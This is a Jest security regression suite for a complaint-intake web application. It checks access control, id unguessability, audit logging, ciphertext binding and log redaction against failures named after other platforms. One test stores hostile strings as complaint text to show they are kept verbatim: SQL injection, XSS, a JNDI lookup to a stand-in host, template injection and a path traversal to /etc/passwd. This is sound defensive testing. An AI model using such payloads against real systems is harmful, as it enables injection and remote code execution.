import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { execFileSync, fork, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { readFile, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { Logger } from '@nestjs/common';
import pg from 'pg';
import { DEMO_PASSWORD, STAFF } from '@redress/access';
import { newId, routesOf } from '@redress/platform';
import { COMPLAINANT, PLACE, Scene, type Ids } from './scene.js';
import { eventually, type Answer, type Person } from './office.js';

/*
 * What went wrong at others who take in what people fear to say. Each test bears the name of a failure and shows that
 * it cannot happen here.
 */

let scene: Scene;
beforeAll(async () => {
  // What is broken here on purpose would fill the output; what doors write is looked at below.
  Logger.overrideLogger(false);
  scene = await Scene.open();
});
afterAll(() => scene.close());

const owner = <T = Record<string, unknown>>(sql: string, values: unknown[] = []) =>
  scene.office.owner.query<T[]>(sql, values);
const desk = (reader: string) => scene.reader('desk', reader);
const ids = (name: string): Ids => scene.cases[name] ?? {};
const at = (name: string, rest = '') => `/api/v1/cases/${ids(name)['caseId']}${rest}`;
const reset = (reader: string) => scene.reset('case', 'mine', reader);
const codes = ({ status, body }: Answer) => ({ status, code: body?.['code'] });
const filled = (path: string, known: Ids) =>
  path.replace(/:(\w+)/g, (_, name: string) => known[name] ?? newId());
const gets = (door: 'portal' | 'desk') =>
  routesOf(scene.office[door]).filter(({ method }) => method === 'GET');
const file = (input: object, who: Person = scene.office.visitor()) =>
  who.post<{ number: string; receipt: string; code: string; fields: { code: string }[] }>(
    '/api/v1/complaints',
    input,
  );
const pdfText = (bytes: Buffer) =>
  execFileSync('pdftotext', ['-layout', '-', '-'], { input: bytes, encoding: 'utf8' });

async function caseOf(number: string): Promise<string> {
  const [row] = await owner<{ case_id: string }>('select case_id from complaints where number = $1', [
    number,
  ]);
  return row?.case_id ?? '';
}

/** Runs `work` while something is broken, and mends it again whatever comes of it. */
async function while_<T>(broken: string, mended: string, work: () => Promise<T>): Promise<T> {
  await owner(broken);
  try {
    return await work();
  } finally {
    await owner(mended);
  }
}

/** What of these stands in an answer, however it is written there. */
const shownOf = (words: readonly string[], raw: Buffer | string) => {
  const text = raw.toString().toLowerCase();
  return words.filter((word) => text.includes(word.toLowerCase()));
};
const IDENTITY = [...Object.values(COMPLAINANT), 'marisol', 'fuentes', 'quiroga', '0104477', 'rosalind'];

describe('another user’s second-factor secret read by id (SecureDrop 2024)', () => {
  it('is told to its owner once, and to nobody by its id', async () => {
    const made = await desk('counsel').post<{ id: string; secret: string }>('/api/v1/factors/totp', {});
    const { id, secret } = made.body;
    expect(secret).toMatch(/^[A-Z2-7]{32}$/);
    for (const [, person] of scene.readersAt('desk')) {
      for (const method of ['GET', 'PUT', 'PATCH', 'POST', 'DELETE'] as const) {
        for (const url of [
          `/api/v1/factors/${id}`,
          `/api/v1/factors/totp/${id}`,
          `/account/factors/${id}`,
          `/sign-in/set-up/app/${id}`,
        ]) {
          if (person === desk('counsel') && method === 'DELETE') continue;
          const answer = await person.send(method, url, method === 'GET' ? undefined : { code: '000000' });
          expect([url, answer.status >= 400 || answer.status === 303]).toEqual([url, true]);
          expect(answer.raw.includes(secret)).toBe(false);
        }
      }
      for (const list of ['/api/v1/factors', '/account'])
        expect((await person.get(list)).raw.includes(secret)).toBe(false);
    }
  });

  it('does not open where a thief has copied it to', async () => {
    const victim = await desk('counsel').post<{ id: string }>('/api/v1/factors/totp', {});
    const mine = await desk('screener').post<{ id: string }>('/api/v1/factors/totp', {});
    await owner(
      'update factors f set secret_sealed = v.secret_sealed from factors v where f.id = $1 and v.id = $2',
      [mine.body.id, victim.body.id],
    );
    const tried = await desk('screener').post(`/api/v1/factors/totp/${mine.body.id}`, { code: '123456' });
    expect(codes(tried)).toEqual({ status: 500, code: 'seal_broken' });
  });
});

describe('sequential ids, and a fallback that mailed plain text (Hush Line 2025)', () => {
  it('whoever knows one id or number can open neither it nor the next', async () => {
    await reset('investigator');
    const { caseId = '', number = '' } = ids('early');
    const value = BigInt(`0x${caseId.replaceAll('-', '')}`);
    const neighbours = [1n, 2n, 1n << 32n, 1n << 61n, 1n << 80n].map((bit) =>
      (value ^ bit)
        .toString(16)
        .padStart(32, '0')
        .replace(/(.{8})(.{4})(.{4})(.{4})(.{12})/, '$1-$2-$3-$4-$5'),
    );
    for (const id of [caseId, ...neighbours])
      expect(codes(await desk('investigator').get(`/api/v1/cases/${id}`))).toEqual({
        status: 404,
        code: 'not_found',
      });
    for (const id of neighbours)
      expect((await desk('supervisor').get(`/api/v1/cases/${id}`)).status).toBe(404);
    const complainant = scene.reader('portal', 'complainant');
    const own = await complainant.get('/api/v1/complaint');
    for (const more of [`caseId=${caseId}`, `number=${number}`, `id=${caseId}`])
      expect((await complainant.get(`/api/v1/complaint?${more}`)).body).toEqual(own.body);
    for (const receipt of [caseId, number])
      expect((await scene.office.visitor().post('/api/v1/receipt-session', { receipt })).status).toBe(400);
  });

  it('two filings of the same moment share no more of their ids than the time', async () => {
    const filed = await Promise.all(
      Array.from({ length: 8 }, () => file({ narrative: 'He followed me home.' })),
    );
    const tails = await Promise.all(filed.map(async ({ body }) => (await caseOf(body.number)).slice(24)));
    const values = tails.map((tail) => parseInt(tail, 16)).sort((a, b) => a - b);
    const steps = values.slice(1).map((value, n) => value - values[n]!);
    expect(Math.min(...steps)).toBeGreaterThan(1_000);
  });

  it('no mail holds a word of a case: one file alone can mail, and what was mailed says nothing', async () => {
    const files = await Promise.all(
      ['apps', 'libs'].map((folder) => readdir(folder, { recursive: true, withFileTypes: true })),
    );
    const senders: string[] = [];
    for (const { name, parentPath } of files.flat()) {
      if (!/\.tsx?$/.test(name) || /\.spec\.tsx?$/.test(name)) continue;
      if (/from 'nodemailer|sendmail/.test(await readFile(join(parentPath, name), 'utf8')))
        senders.push(name);
    }
    expect(senders.filter((name) => name !== 'mail.ts')).toEqual([]);
    const outbox = join(scene.office.config.dataFolder, 'mail');
    const secrets = [
      ...IDENTITY,
      PLACE,
      'wall of the station',
      ...Object.values(scene.cases).flatMap(({ number = '', caseId = '' }) => [number, caseId]),
    ];
    for (const name of await readdir(outbox).catch(() => []))
      expect(shownOf(secrets, await readFile(join(outbox, name)))).toEqual([]);
  });
});

describe('access revoked without anything being rotated, identities released by themselves (GlobaLeaks)', () => {
  /** What an investigator does with a case of theirs. */
  const work = async (person: Person, name = 'mine') => {
    const { evidenceId, referralId, allegationId } = ids(name);
    const finding = {
      outcome: 'improper_conduct',
      analysis: { undisputed: 'They met.', policy: 'DGO 2.01.', conclusion: 'It was so.' },
    };
    const answers = [
      await person.get(at(name)),
      await person.get(`/api/v1/evidence/${evidenceId}/content`),
      await person.get(`/api/v1/referrals/${referralId}/packet`),
      await person.post(at(name, '/notes'), { body: 'Seen.' }),
      await person.send('PUT', at(name, `/allegations/${allegationId}/finding`), finding),
      await person.upload(at(name, '/evidence'), 'Photo', 'a.txt', 'seen'),
    ];
    return answers.map(({ status }) => status);
  };

  it('whoever a case is taken from is a stranger to it at once, with the session that they have', async () => {
    await reset('investigator');
    expect(await work(desk('investigator'))).toEqual([200, 200, 200, 201, 200, 201]);
    const { status } = await desk('supervisor').send('PUT', at('mine', '/assignment'), {
      investigatorId: scene.maker,
    });
    expect(status).toBe(204);
    expect(await work(desk('investigator'))).toEqual([404, 404, 404, 404, 404, 404]);
    expect((await desk('investigator').get('/api/v1/cases')).body).toEqual({ items: [] });
  });

  it('whoever is disabled is signed out at once, at either door, and does not come back', async () => {
    await reset('investigator');
    const people = `email in ('investigator@objects.example', 'advocate@objects.example')`;
    await while_(
      `update accounts set disabled_at = now() where ${people}`,
      `update accounts set disabled_at = null where ${people}`,
      async () => {
        expect(await work(desk('investigator'))).toEqual([401, 401, 401, 401, 401, 401]);
        expect((await scene.reader('portal', 'advocate').get('/api/v1/complaints')).status).toBe(401);
        const proof = { email: 'investigator@objects.example', password: DEMO_PASSWORD };
        expect(codes(await scene.office.visitor('desk').post('/api/v1/session', proof))).toEqual({
          status: 401,
          code: 'sign_in_refused',
        });
      },
    );
  });

  it('whoever was let in past a wall is outside again when the hours are over', async () => {
    await reset('investigator');
    const openUntil = (when: string) =>
      owner(`update walls set open_until = now() + interval '${when}' where case_id = $1`, [
        ids('walled_mine')['caseId'],
      ]);
    await openUntil('1 hour');
    expect((await desk('investigator').get(at('walled_mine'))).status).toBe(200);
    await openUntil('-1 second');
    expect(await work(desk('investigator'), 'walled_mine')).toEqual([404, 404, 404, 404, 404, 404]);
    await reset('investigator');
  });

  it.each(['as the office is staffed', 'when there is no custodian at all'])(
    'nothing of who complained leaves by any address of the desk: %s',
    async (staffing) => {
      const custodians = `role = 'custodian'`;
      const gone = staffing === 'as the office is staffed' ? 'null' : 'now()';
      let answered = 0;
      await while_(
        `update accounts set disabled_at = ${gone} where ${custodians}`,
        `update accounts set disabled_at = null where ${custodians}`,
        async () => {
          for (const [reader, person] of scene.readersAt('desk')) {
            await reset(reader);
            for (const { path } of gets('desk')) {
              for (const name of path.includes(':') ? ['early', 'mine'] : ['mine']) {
                const { status, raw, headers } = await person.get(filled(path, ids(name)));
                if (status === 200) answered += 1;
                const isPdf = headers['content-type'] === 'application/pdf';
                const said = [raw.toString('latin1'), raw.toString(), isPdf ? pdfText(raw) : ''].join('\n');
                expect([reader, path, shownOf(IDENTITY, said)]).toEqual([reader, path, []]);
              }
            }
          }
        },
      );
      expect(answered).toBeGreaterThan(80);
    },
  );
});

describe('audit events lost in an asynchronous queue (Primero)', () => {
  const entries = async (fact: string, name: string) =>
    (await owner('select id from journal where fact = $1 and case_id = $2', [fact, ids(name)['caseId']]))
      .length;
  const reads = () => [
    desk('counsel').get(at('mine')),
    desk('counsel').get(`/api/v1/evidence/${ids('mine')['evidenceId']}/content`),
    desk('counsel').get(`/api/v1/referrals/${ids('mine')['referralId']}/packet`),
    desk('auditor').get('/api/v1/record'),
  ];

  it('with no queue at all every read and filing is in the record when it is answered', async () => {
    const before = await entries('case.read', 'mine');
    await while_('alter schema bullmq rename to gone', 'alter schema gone rename to bullmq', async () => {
      expect((await desk('counsel').get(at('mine'))).status).toBe(200);
      expect(await entries('case.read', 'mine')).toBe(before + 1);
      const filed = await file({ narrative: 'He took my phone.' });
      expect(filed.status).toBe(201);
      const caseId = await caseOf(filed.body.number);
      const [entry] = await owner('select fact from journal where case_id = $1', [caseId]);
      expect(entry).toEqual({ fact: 'complaint.filed' });
    });
  });

  it.each(['journal', 'journal_outbox'])(
    'what cannot be written to the %s is not read either',
    async (table) => {
      await while_(
        `revoke insert on ${table} from redress_desk, redress_portal`,
        `grant insert on ${table} to redress_desk, redress_portal`,
        async () => {
          for (const { status, raw } of await Promise.all(reads())) {
            expect(status).toBe(500);
            expect(shownOf(['wall of the station', 'Call log', '%PDF', 'case.read'], raw)).toEqual([]);
          }
          const before = await owner('select id from cases');
          expect((await file({ narrative: 'Nobody will know of this one.' })).status).toBe(500);
          expect(await owner('select id from cases')).toEqual(before);
        },
      );
      for (const { status } of await Promise.all(reads())) expect(status).toBe(200);
    },
  );
});

describe('a score or routing computed by the client and believed', () => {
  it.each([
    { priority: 'low' },
    { priorityRank: 3 },
    { types: ['discourtesy'] },
    { shielded: false },
    { protection: 'open' },
    { status: 'closed' },
    { assessment: { priority: 'low' } },
    { number: '2026-0000-0000' },
    { caseId: newId() },
    { investigatorId: newId() },
    { filedBy: newId() },
    { organisationId: newId() },
    { receiptHash: '00' },
    { receivedAt: '2020-01-01T00:00:00Z' },
    { asked: { priority: 'low' } },
    { officers: [{ name: 'Grant', priorComplaintsInYear: 0 }] },
    { complainant: { name: 'Ana', pseudonym: 'Complainant B' } },
  ])('is refused, and nothing is filed: %j', async (claimed) => {
    const before = await owner('select id from complaints');
    const refused = await file({ narrative: 'He hit me.', ...claimed });
    expect(codes(refused)).toEqual({ status: 400, code: 'input_invalid' });
    expect(refused.body.fields.map(({ code }) => code)).toEqual(['unknown_field']);
    expect(await owner('select id from complaints')).toEqual(before);
  });
});

describe('ciphertext swapped between records', () => {
  const swapped = (table: string, column: string, [a, b]: [string, string]) =>
    `update ${table} x set ${column} = y.${column} from ${table} y
      where (x.id, y.id) in (('${a}', '${b}'), ('${b}', '${a}'))`;
  const rowOf = async (table: string, name: string) =>
    (
      await owner<{ id: string }>(`select id from ${table} where case_id = $1 order by id limit 1`, [
        ids(name)['caseId'],
      ])
    )[0]!.id;

  async function staysShut(sql: string, url: string, words: string[]): Promise<void> {
    await reset('investigator');
    await while_(sql, sql, async () => {
      const answer = await desk('supervisor').get(url);
      expect(codes(answer)).toEqual({ status: 500, code: 'seal_broken' });
      expect(shownOf(words, answer.raw)).toEqual([]);
    });
    expect((await desk('supervisor').get(url)).status).toBe(200);
  }

  it.each([
    ['statements', 'body_sealed'],
    ['complaints', 'occurrence_sealed'],
    ['allegations', 'text_sealed'],
    ['findings', 'analysis_sealed'],
    ['evidence_items', 'title_sealed'],
  ])('of two cases does not open: %s.%s', async (table, column) => {
    const pair: [string, string] = [await rowOf(table, 'mine'), await rowOf(table, `another's`)];
    await staysShut(swapped(table, column, pair), at('mine'), ['wall of the station', 'Kestrel']);
  });

  it('of one case does not open in another row of it, nor in another column of the same row', async () => {
    const notes: string[] = [];
    for (const body of ['The first of two.', 'The second of two.']) {
      const { body: made } = await desk('supervisor').post<{ id: string }>(at('mine', '/notes'), { body });
      notes.push(made.id);
    }
    const [first = '', second = ''] = notes;
    await staysShut(swapped('notes', 'body_sealed', [first, second]), at('mine'), ['of two']);
    const exhibit = await rowOf('evidence_items', 'mine');
    const columns = `update evidence_items set title_sealed = file_name_sealed, file_name_sealed = title_sealed where id = '${exhibit}'`;
    await staysShut(columns, at('mine'), ['log.txt']);
  });

  it('of a case’s key does not open another case', async () => {
    const pair: [string, string] = [ids('mine')['caseId']!, ids(`another's`)['caseId']!];
    await staysShut(swapped('cases', 'wrapped_key', pair), at('mine'), ['wall of the station']);
  });

  it('of exhibits and packets, as files, does not open either', async () => {
    const evidence: [string, string] = [ids('mine')['evidenceId']!, ids(`another's`)['evidenceId']!];
    await staysShut(swapped('evidence_items', 'blob', evidence), `/api/v1/evidence/${evidence[0]}/content`, [
      'Call log',
    ]);
    const packets: [string, string] = [ids('mine')['referralId']!, ids(`another's`)['referralId']!];
    await staysShut(swapped('referrals', 'packet_blob', packets), `/api/v1/referrals/${packets[0]}/packet`, [
      '%PDF',
    ]);
  });
});

describe('filters that block truthful words', () => {
  it.each([
    'He wanted sex. He raped me. He said he would kill me and called me a whore, a faggot and a bitch.',
    `'; DROP TABLE complaints; -- is what he typed into the computer, and " or 1=1`,
    '<script>alert("he showed me this")</script> <b>and</b> <img src=x onerror=alert(1)> &amp; &lt;',
    'He sent me 🍆🍑😈 and 👩‍👩‍👧, then ‮backwards‬ and zero​width.',
    '${jndi:ldap://he.example/a} {{7*7}} %s %n ../../etc/passwd \\u0000 \\x00',
    'heroin fentanyl cocaine meth escort prostitute BDSM bomb gun child porn suicide',
    'http://bit.ly/abc https://пример.рф FREE MONEY!!! click here',
    '警察强奸了我。 Он меня изнасиловал. Hiniling niya na makipagtalik ako. Anh ta cưỡng hiếp tôi.',
  ])('are not here: %s', async (narrative) => {
    const filed = await file({ narrative, language: 'und' });
    expect(filed.status).toBe(201);
    const read = await desk('supervisor').get<{ statements: { text: string }[] }>(
      `/api/v1/cases/${await caseOf(filed.body.number)}`,
    );
    expect(read.body.statements.map(({ text }) => text)).toEqual([narrative.normalize('NFC')]);
  });
});

describe('confidential fields in logs', () => {
  const SECRETS = {
    narrative: 'zebrafinch narrative',
    name: 'Wilhelmina Zebrafinch',
    contact: 'zebrafinch@mail.example',
    officer: 'Sergeant Quagmire',
    classification: 'Kestrelclass',
    note: 'pangolin note',
    password: 'quokka password seventeen',
    address: 'quokka@office.example',
  };
  const filing = {
    narrative: SECRETS.narrative,
    complainant: { name: SECRETS.name, contact: SECRETS.contact },
    officers: [{ name: SECRETS.officer }],
    classification: SECRETS.classification,
  };
  const children: ChildProcess[] = [];
  afterAll(() => children.forEach((child) => child.kill('SIGKILL')));

  async function open(door: 'portal' | 'desk') {
    const child = fork(join(import.meta.dirname, `../dist/apps/${door}/src/main.js`), {
      env: {
        PATH: process.env['PATH'],
        DATABASE_URL: scene.office.database.urls[door],
        REDRESS_DATA: scene.office.config.dataFolder,
        [`${door.toUpperCase()}_PORT`]: '0',
      },
      stdio: ['ignore', 'pipe', 'pipe', 'ipc'],
    });
    children.push(child);
    const said: string[] = [];
    for (const stream of [child.stdout, child.stderr])
      stream?.on('data', (bytes: Buffer) => said.push(bytes.toString()));
    const [{ url }] = (await once(child, 'message')) as [{ url: string }];
    const send = async (method: string, path: string, body?: object | string, cookie = '') => {
      const answer = await fetch(`${url}${path}`, {
        method,
        headers: { 'content-type': 'application/json', cookie },
        ...(body !== undefined && { body: typeof body === 'string' ? body : JSON.stringify(body) }),
      });
      return {
        status: answer.status,
        body: (await answer.json().catch(() => ({}))) as Record<string, string>,
      };
    };
    return { send, said: () => said.join('') };
  }

  it('are not there, whatever goes well or wrong at the doors', async () => {
    await reset('investigator');
    const [portal, staff] = await Promise.all([open('portal'), open('desk')]);
    const cookie = desk('supervisor').cookie ?? '';
    const filed = await portal.send('POST', '/api/v1/complaints', filing);
    expect(filed.status).toBe(201);
    const { receipt = '', number = '' } = filed.body;
    const words = receipt.split(' ');
    const session = { email: SECRETS.address, password: SECRETS.password };
    const caseUrl = `/api/v1/cases/${await caseOf(number)}`;

    // Refused: half a body, a field too many, wrong words, a wrong password.
    expect(
      (await portal.send('POST', '/api/v1/complaints', JSON.stringify(filing).slice(0, -9))).status,
    ).toBe(400);
    expect((await portal.send('POST', '/api/v1/complaints', { ...filing, [SECRETS.name]: 1 })).status).toBe(
      400,
    );
    expect((await portal.send('POST', '/api/v1/receipt-session', { receipt })).status).toBe(201);
    const turned = { receipt: [...words].reverse().join(' ') };
    expect((await portal.send('POST', '/api/v1/receipt-session', turned)).status).toBeGreaterThanOrEqual(400);
    expect((await staff.send('POST', '/api/v1/session', session)).status).toBe(401);
    expect(
      (await portal.send('GET', `/api/v1/officers?name=${encodeURIComponent(SECRETS.officer)}`)).status,
    ).toBe(200);
    // Broken: the database refuses the row and says which, the journal is shut, a seal does not open.
    await while_(
      'alter table complaints add constraint broken check (classification_sealed is null) not valid',
      'alter table complaints drop constraint broken',
      async () => expect((await portal.send('POST', '/api/v1/complaints', filing)).status).toBe(500),
    );
    expect((await staff.send('POST', `${caseUrl}/notes`, { body: SECRETS.note }, cookie)).status).toBe(201);
    await while_(
      'revoke insert on notes from redress_desk',
      'grant insert on notes to redress_desk',
      async () =>
        expect((await staff.send('POST', `${caseUrl}/notes`, { body: SECRETS.note }, cookie)).status).toBe(
          500,
        ),
    );
    expect((await staff.send('GET', caseUrl, undefined, cookie)).status).toBe(200);
    await owner(`update statements set body_sealed = '\\x01' where case_id = $1`, [await caseOf(number)]);
    expect((await staff.send('GET', caseUrl, undefined, cookie)).status).toBe(500);

    // What went wrong is told there, or this would prove nothing.
    await eventually('both doors to tell of it', () =>
      Promise.resolve(portal.said().includes('23514') && staff.said().includes('42501') ? true : undefined),
    );
    const log = portal.said() + staff.said();
    expect(
      shownOf(
        [
          ...Object.values(SECRETS),
          'zebrafinch',
          'quokka',
          'pangolin',
          receipt,
          [...words].slice(0, 2).join(' '),
          number,
          cookie.split('=')[1] ?? '',
          'redress_desk=',
          'Failing row',
        ],
        log,
      ),
    ).toEqual([]);
  });
});

describe('numbers by max+1 (PDM)', () => {
  it('fifty filings at once all get a number of their own, and none tells of the one before', async () => {
    const filed = await Promise.all(
      Array.from({ length: 50 }, () => file({ narrative: 'He broke my door.' })),
    );
    expect(filed.map(({ status }) => status)).toEqual(Array<number>(50).fill(201));
    const numbers = filed.map(({ body }) => body.number);
    expect(new Set(numbers).size).toBe(50);
    const valueOf = (number: string) =>
      [...number.slice(5, -1).replace('-', '')].reduce(
        (sum, character) => sum * 32 + '0123456789ABCDEFGHJKMNPQRSTVWXYZ'.indexOf(character),
        0,
      );
    const inOrder = await owner<{ number: string }>(
      'select number from complaints where number = any($1) order by case_id',
      [numbers],
    );
    const values = inOrder.map(({ number }) => valueOf(number));
    const steps = values.slice(1).map((value, n) => value - values[n]!);
    // Of 35 random bits: near each other by chance once in ten thousand runs, in order never.
    expect(Math.min(...steps.map(Math.abs))).toBeGreaterThan(50);
    expect(steps.filter((step) => step > 0).length).toBeGreaterThan(5);
    expect(steps.filter((step) => step < 0).length).toBeGreaterThan(5);
  });
});

describe('status jumps without permission (PDM)', () => {
  const STATUSES = [
    'filed',
    'in_review',
    'accepted',
    'declined',
    'investigating',
    'decided',
    'referred',
    'closed',
  ];
  /* Who may take a case from which status to which; all else leaves it where it is. */
  const JUMPS: Record<string, { by: readonly string[]; to: Record<string, string> }> = {
    accept: { by: ['screener', 'supervisor'], to: { in_review: 'accepted' } },
    decline: { by: ['screener', 'supervisor'], to: { in_review: 'declined' } },
    reopen: { by: ['screener', 'supervisor'], to: { declined: 'in_review' } },
    assign: {
      by: ['supervisor'],
      to: { accepted: 'investigating', investigating: 'investigating', decided: 'investigating' },
    },
    refer: { by: ['supervisor'], to: { decided: 'referred', referred: 'referred' } },
  };
  const ask = (verb: string, person: Person): Promise<Answer> =>
    verb === 'assign'
      ? person.send('PUT', at('mine', '/assignment'), { investigatorId: scene.maker })
      : verb === 'refer'
        ? person.post(at('mine', '/referrals'), { recipient: 'chief_of_police' })
        : person.post(at('mine', '/screening'), { decision: verb, reason: 'Because.' });

  it.each(STAFF)('a %s moves a case only as the table says', async (role) => {
    const found: string[] = [];
    const expected: string[] = [];
    for (const [verb, { by, to }] of Object.entries(JUMPS)) {
      for (const from of STATUSES) {
        await scene.reset('case', 'mine', role, from);
        const { status } = await ask(verb, desk(role));
        const [now] = await owner<{ status: string }>('select status from cases where id = $1', [
          ids('mine')['caseId'],
        ]);
        const next = by.includes(role) ? to[from] : undefined;
        found.push(`${from} ${verb} → ${now?.status}, ${status < 300 ? 'done' : 'refused'}`);
        expected.push(`${from} ${verb} → ${next ?? from}, ${next ? 'done' : 'refused'}`);
      }
    }
    expect(found).toEqual(expected);
  });

  it('nor straight in the database, as far as its walls reach', async () => {
    await reset('investigator');
    const client = new pg.Client({ connectionString: scene.office.database.urls.desk });
    await client.connect();
    const accountOf = async (role: string) =>
      (
        await owner<{ id: string }>('select id from accounts where email = $1', [`${role}@objects.example`])
      )[0]!.id;
    const attempt = async (role: string, name: string, change: string) => {
      await client.query('begin');
      try {
        await client.query(
          `select set_config('redress.role', $1, true), set_config('redress.account', $2, true)`,
          [role, await accountOf(role)],
        );
        const { rowCount } = await client.query(`update cases set ${change} where id = $1`, [
          ids(name)['caseId'],
        ]);
        return rowCount;
      } catch (error) {
        return (error as { code: string }).code;
      } finally {
        await client.query('rollback');
      }
    };
    const DENIED = '42501';
    const NO_STEP = '23514';
    expect(await attempt('screener', 'early', `status = 'investigating'`)).toBe(NO_STEP);
    expect(await attempt('supervisor', 'early', `status = 'closed'`)).toBe(NO_STEP);
    expect(await attempt('screener', 'mine', `status = 'in_review'`)).toBe(0);
    expect(await attempt('investigator', 'mine', `investigator_id = '${scene.maker}'`)).toBe(DENIED);
    expect(await attempt('investigator', `another's`, `status = 'closed'`)).toBe(0);
    for (const role of ['custodian', 'liaison', 'auditor', 'administrator'])
      expect([role, await attempt(role, 'mine', `status = 'closed'`)]).toEqual([role, 0]);
    await client.end();
    const portal = new pg.Client({ connectionString: scene.office.database.urls.portal });
    await portal.connect();
    await expect(portal.query(`update cases set status = 'closed'`)).rejects.toMatchObject({ code: DENIED });
    await portal.end();
  });
});

describe('open public endpoints with exact places (PDM)', () => {
  it.each(['portal', 'desk'] as const)('no address of the %s tells a stranger of a case', async (door) => {
    const marks = [
      ...IDENTITY,
      PLACE,
      'Kestrel Lane',
      'wall of the station',
      ...Object.values(scene.cases).flatMap(({ caseId = '', number = '', evidenceId = '' }) => [
        caseId,
        number,
        evidenceId,
      ]),
    ];
    for (const { path } of gets(door)) {
      for (const name of ['early', 'mine']) {
        const { raw, headers } = await scene.office.visitor(door).get(filled(path, ids(name)));
        // Where a stranger is sent to sign in, the address that they asked for is said again to them alone.
        expect([path, shownOf(marks, raw)]).toEqual([path, []]);
        expect(shownOf(IDENTITY, JSON.stringify(headers))).toEqual([]);
      }
    }
  });

  it('looking an officer up says the same before and after complaints name them', async () => {
    const id = newId();
    await owner(
      `insert into officers (id, source, source_key, name, search_name, search_keys, star, active, updated_at)
       values ($1, 'peers', 'peers', 'Zephyrin Oakes', ' zephyrin oakes ', '{}', '9081', true, now())`,
      [id],
    );
    const look = async () =>
      (await scene.office.visitor().get<{ items: object[] }>('/api/v1/officers?star=9081')).body;
    const before = await look();
    expect(before.items).toHaveLength(1);
    for (let n = 0; n < 3; n += 1)
      expect(
        (await file({ narrative: 'He hit me.', officers: [{ officerId: id }], where: PLACE })).status,
      ).toBe(201);
    expect(await look()).toEqual(before);
    expect(Object.keys(before.items[0]!).sort()).toEqual([
      'active',
      'appointedOn',
      'exact',
      'id',
      'name',
      'rank',
      'resignedOn',
      'star',
      'unit',
    ]);
  });

  it('whoever files is told of nothing but their own filing', async () => {
    const { body } = await file({ narrative: 'He hit me.', where: PLACE, complainant: COMPLAINANT });
    expect(Object.keys(body).sort()).toEqual(['answerBy', 'number', 'proof', 'receipt', 'receivedOn']);
    expect(shownOf([...IDENTITY, PLACE, 'hit me'], JSON.stringify(body))).toEqual([]);
  });
});

describe('exports without permission (PDM)', () => {
  /* Whose case it is: the investigator's own, and another's. */
  const MAY = {
    packet: { investigator: ['mine'], supervisor: ['mine', `another's`], counsel: ['mine', `another's`] },
    evidence: {
      investigator: ['mine'],
      supervisor: ['mine', `another's`],
      counsel: ['mine', `another's`],
      screener: [],
    },
  } as const;
  const urlOf = (kind: keyof typeof MAY, name: string) =>
    kind === 'packet'
      ? `/api/v1/referrals/${ids(name)['referralId']}/packet`
      : `/api/v1/evidence/${ids(name)['evidenceId']}/content`;

  it.each(['packet', 'evidence'] as const)(
    'nobody else takes a byte of the %s, and only what was taken is on record',
    async (kind) => {
      const fact = kind === 'packet' ? 'packet.downloaded' : 'evidence.viewed';
      const count = async () => (await owner('select id from journal where fact = $1', [fact])).length;
      for (const [reader, person] of scene.readersAt('desk')) {
        await reset(reader);
        for (const name of ['mine', `another's`, 'walled_mine']) {
          const before = await count();
          const { status, raw } = await person.get(urlOf(kind, name));
          const isTheirs = ((MAY[kind] as Record<string, readonly string[]>)[reader] ?? []).includes(name);
          expect([reader, name, status < 300]).toEqual([reader, name, isTheirs]);
          expect([reader, name, /^%PDF|^Call log/.test(raw.toString('latin1'))]).toEqual([
            reader,
            name,
            isTheirs,
          ]);
          expect(await count()).toBe(before + (isTheirs ? 1 : 0));
        }
      }
      for (const [, person] of scene.readersAt('portal'))
        expect((await person.get(urlOf(kind, 'mine'))).status).toBe(404);
    },
  );
});
